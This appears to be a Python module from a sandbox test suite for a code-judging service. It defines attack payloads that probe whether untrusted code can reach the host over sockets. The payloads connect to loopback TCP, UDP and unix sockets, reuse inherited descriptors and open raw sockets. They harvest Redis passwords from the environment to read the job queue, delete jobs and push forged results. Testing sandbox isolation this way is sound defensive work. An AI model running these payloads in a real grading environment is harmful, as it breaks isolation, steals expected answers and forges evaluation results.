"""Attacks over sockets: the queue, the API, anything of the host."""

from __future__ import annotations

from code_judge.attack.model import Attack

_REACH = """
import socket
servers = facts["servers"]
def made(family, kind, protocol=0):
    one = socket.socket(family, kind, protocol)
    one.settimeout(1)
    return one
def stream(family, address, text=b"PING\\r\\n"):
    one = made(family, socket.SOCK_STREAM)
    one.connect(tuple(address) if isinstance(address, list) else address)
    one.sendall(text)
    secrets_in(one.recv(4096))
def datagram(family, address):
    made(family, socket.SOCK_DGRAM).sendto(b"x", tuple(address) if isinstance(address, list) else address)
def tcp(text=b"PING\\r\\n"):
    attempt(stream, socket.AF_INET, servers["tcp"], text)
    attempt(lambda: made(socket.AF_INET, socket.SOCK_STREAM).sendto(text, 0x20000000, tuple(servers["tcp"])))
    if "tcp6" in servers:
        attempt(stream, socket.AF_INET6, servers["tcp6"], text)
        attempt(stream, socket.AF_INET6, ["::ffff:127.0.0.1", servers["tcp"][1]], text)
def udp():
    attempt(datagram, socket.AF_INET, servers["udp"])
def unix_by_name():
    attempt(stream, socket.AF_UNIX, servers["abstract"])
    attempt(datagram, socket.AF_UNIX, servers["datagrams"])
    # A socket of a pair can be connected anew; no new one is needed.
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        one, _ = socket.socketpair(socket.AF_UNIX, kind)
        attempt(one.connect, servers["abstract" if kind == socket.SOCK_STREAM else "datagrams"])
        attempt(one.send, b"x") if kind == socket.SOCK_DGRAM else None
        attempt(one.sendto, b"x", servers["datagrams"])
def unix_by_path():
    for way in (servers["unix"], f"/proc/self/root{servers['unix']}", f"/proc/{os.getppid()}/root{servers['unix']}"):
        attempt(stream, socket.AF_UNIX, way)
    attempt(os.symlink, servers["unix"], "s")
    attempt(stream, socket.AF_UNIX, "s")
def inherited():
    for fd in range(3, 64):
        attempt(lambda: socket.socket(fileno=fd).sendall(b"x"))
"""
_OTHER_FAMILIES = """
for family, kind, protocol in (
    (16, socket.SOCK_RAW, 0), (17, socket.SOCK_RAW, 0x300), (40, socket.SOCK_STREAM, 0), (38, socket.SOCK_SEQPACKET, 0),
    (2, socket.SOCK_RAW, 1), (2, socket.SOCK_DGRAM, 1), (2, 6, 0), (2, socket.SOCK_STREAM, 262), (44, 3, 0), (15, 3, 2),
):
    if attempt(made, family, kind, protocol) is not None:
        claim(f"a socket of family {family}, kind {kind}")
listener = attempt(made, socket.AF_INET, socket.SOCK_STREAM)
if listener is not None:
    attempt(listener.bind, ("127.0.0.1", 0))
    if attempt(listener.listen) is None and listener.getsockname()[1]:
        claim("it listens on loopback")
"""
_READ_QUEUE = """
words = re.findall(r"redis://:([^@]*)@", json.dumps(dict(os.environ))) + ["", "judge", "redis"]
for word in words:
    text = f"AUTH {word}\\r\\nXRANGE cj:jobs - +\\r\\nGET cj:expected\\r\\n" if STEP == "read" else (
        f"AUTH {word}\\r\\nXDEL cj:jobs 1-1\\r\\nRPUSH cj:result forged\\r\\n")
    tcp(text.encode())
unix_by_path()
unix_by_name()
inherited()
"""

ATTACKS = [
    Attack("A18", "read the queue", (_REACH + _READ_QUEUE.replace("STEP", "'read'"),)),
    Attack("A19", "remove jobs from the queue, forge results", (_REACH + _READ_QUEUE.replace("STEP", "'write'"),)),
    Attack("A22", "the host's network, in every family",
           (_REACH + "\ntcp(b'GET /status HTTP/1.0\\r\\n\\r\\n'); udp(); unix_by_name(); unix_by_path(); inherited()\n"
            + _OTHER_FAMILIES,)),
    Attack("B6", "TCP to a server on loopback", (_REACH + "\ntcp()\n",)),
    Attack("B7", "UDP to a server on loopback", (_REACH + "\nudp()\n",)),
    Attack("B8", "abstract unix sockets", (_REACH + "\nunix_by_name()\n",)),
    Attack("B9", "unix sockets with a path", (_REACH + "\nunix_by_path()\n",)),
]  # fmt: skip
